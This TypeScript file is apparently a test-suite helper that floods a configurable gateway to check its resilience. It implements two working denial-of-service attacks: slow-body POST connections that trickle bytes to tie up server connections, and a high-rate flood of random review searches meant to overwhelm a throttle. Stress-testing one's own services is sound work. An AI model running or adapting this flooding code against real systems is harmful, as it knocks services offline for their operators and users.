import { connect, type Socket } from 'node:net';

/**
 * The clients of an attack, in a process of their own, so that they do not delay the client that measures. `FLOOD` names
 * the attack, `GATEWAY` its target, `HEADERS` has further header lines.
 */
const { FLOOD = '', GATEWAY = '', HEADERS = '', WIDGET = '' } = process.env;
const gateway = new URL(GATEWAY);

/** More than the connections that the gateway has to one service. */
const SLOW_BODIES = 300;
const TRICKLE_MS = 500;
/** A client that was refused tries again after this time. */
const AGAIN_MS = 1_000;
/** Together they send 1,000 searches per second, 400 times what the throttle allows an address. */
const SEARCHERS = 64;
const SEARCH_MS = 64;

const FLOODS: Readonly<Record<string, () => void>> = {
  'slow bodies': () => times(SLOW_BODIES, sendSlowly),
  searches: () => times(SEARCHERS, search),
};

function times(count: number, attack: () => void): void {
  for (let started = 0; started < count; started += 1) attack();
}

function open(onceClosed: () => void): Socket {
  const socket = connect(Number(gateway.port), gateway.hostname);
  return socket.on('error', () => {}).on('close', onceClosed);
}

function head(method: string, path: string, ...lines: string[]): string {
  return `${[`${method} ${path} HTTP/1.1`, `host: ${gateway.host}`, HEADERS, ...lines].join('\r\n')}\r\n\r\n`;
}

/** Sends the body of a POST byte by byte. Begins again when the server has responded or closed the connection. */
function sendSlowly(): void {
  const socket = open(() => {
    clearInterval(trickle);
    setTimeout(sendSlowly, AGAIN_MS);
  });
  const lines = ['content-type: application/json', 'content-length: 1000000'];
  socket.write(head('POST', '/public/v1/reviews/add', ...lines));
  const trickle = setInterval(() => socket.write(' '), TRICKLE_MS);
  socket.once('data', () => socket.destroy());
}

/** Searches the reviews of a widget for texts that nobody has searched for, at a steady rate. Waits for no response. */
function search(): void {
  const socket = open(() => {
    clearInterval(sending);
    setTimeout(search, AGAIN_MS);
  });
  const sending = setInterval(() => {
    const text = Math.random().toString(36).slice(2);
    socket.write(head('GET', `/embed/v1/widgets/${WIDGET}/reviews?q=${text}`));
  }, SEARCH_MS);
  socket.resume();
}

FLOODS[FLOOD]?.();
process.stdout.write(`Flooding with ${FLOOD}\n`);
